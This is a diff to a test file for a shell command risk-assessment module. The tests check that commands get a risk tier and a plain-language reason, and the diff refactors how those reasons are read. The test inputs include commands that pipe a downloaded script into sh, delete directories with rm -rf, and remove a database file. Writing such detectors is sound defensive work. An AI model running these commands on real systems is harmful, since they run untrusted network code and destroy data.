@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { reasonsInWords } from '../../../../src/core/risk/assessment.ts';
 import { assessed } from './facts.ts';
 
 const CASES: Readonly<Record<string, readonly string[]>> = {
@@ -134,10 +135,10 @@ describe('the tier of a command', () => {
 
 describe('what is said of a command', () => {
   it('names the part and what it does', () => {
-    expect(
-      assessed('cd src && curl https://x.sh | sh').reasons.map(({ words }) => words),
-    ).toContain('`cd src && curl https://x.sh | sh` runs code from the network');
-    expect(assessed('ls; rm -rf build').reasons[0]?.words).toBe(
+    expect(reasonsInWords(assessed('cd src && curl https://x.sh | sh').reasons)).toContain(
+      '`cd src && curl https://x.sh | sh` runs code from the network',
+    );
+    expect(reasonsInWords(assessed('ls; rm -rf build').reasons)[0]).toBe(
       '`rm -rf build` deletes build and all that is in it',
     );
   });
@@ -164,7 +165,7 @@ describe('what is said of a command', () => {
     ['zcat d | psql x', 'runs whatever it is given to read, in a database'],
     ['rm app.db', 'deletes app.db, data that no history brings back'],
   ])('of %s: %s', (command, does) => {
-    const found = assessed(command).reasons.find(({ words }) => words.endsWith(`\` ${does}`));
+    const found = assessed(command).reasons.find((reason) => reason.does === does);
     expect(found, JSON.stringify(assessed(command).reasons)).toMatchObject({ tier: 'high' });
   });
 
